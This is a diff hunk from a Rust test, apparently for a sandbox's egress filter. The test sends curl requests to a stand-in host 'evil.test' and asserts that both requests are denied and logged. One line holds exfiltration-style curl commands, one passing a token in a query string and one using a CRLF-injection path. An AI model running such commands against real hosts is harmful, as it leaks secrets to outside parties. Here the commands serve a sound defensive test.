@@ -160,7 +160,7 @@ on_both! {
         rig.sh("curl -sS -o /dev/null http://evil.test/a?token=x; curl -sS -o /dev/null \"http://evil.test/$(printf 'b%%0d%%0a')\"");
         let denied = logs(&rig.options.state, &bot_bottle::engine::Subject { file: std::path::PathBuf::new(), name: "dev".to_owned() }, None, true);
         assert_eq!(denied.len(), 2, "{denied:?}");
-        assert_eq!((denied[0].host.as_str(), denied[0].path.as_str()), ("evil.test", "/a"));
+        assert_eq!((denied[0].request.host.as_str(), denied[0].request.path.as_str()), ("evil.test", "/a"));
     }
 }
 
